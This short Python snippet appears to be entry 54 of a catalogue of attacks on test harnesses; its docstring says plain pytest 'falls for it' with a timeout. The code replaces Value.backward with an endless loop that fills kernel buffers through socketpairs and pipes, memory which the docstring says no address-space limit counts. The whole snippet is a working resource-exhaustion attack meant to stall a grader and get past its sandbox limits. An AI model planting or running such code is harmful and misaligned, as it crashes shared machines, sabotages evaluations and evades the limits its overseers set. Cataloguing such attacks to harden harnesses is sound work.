"""Pipes, files in memory and sockets are filled, which no limit on addresses counts.

catalogue: 54
falls for it: plain pytest
verdict: timeout
"""

import os, socket
def _backward(self):
    kept = []
    while True:
        try:
            kept.append(socket.socketpair()); kept[-1][0].setblocking(False); kept[-1][0].send(bytes(1 << 20))
        except OSError: pass
        try:
            read, write = os.pipe(); os.set_blocking(write, False); os.write(write, bytes(1 << 16))
        except OSError: pass
Value.backward = _backward
